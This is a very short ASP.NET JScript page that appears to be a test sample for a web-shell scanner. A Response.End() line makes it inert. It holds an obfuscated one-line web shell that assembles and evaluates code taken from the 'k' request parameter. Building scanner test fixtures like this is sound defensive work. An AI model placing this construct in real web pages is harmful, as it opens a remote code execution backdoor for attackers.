<%@ Page Language = Jscript %>
<% // shellsweep test sample: inert, never functional
Response.End(); %>
<%var/*x*/C="e"+"v"+"a"+"l"+"("+"R"+"e"+"q"+"u"+"e"+"s"+"t"+"["+"'"+"k"+"'"+"]"+")";eval
(/*x*/C,"u"+"n"+"s"+"a"+"f"+"e");%>
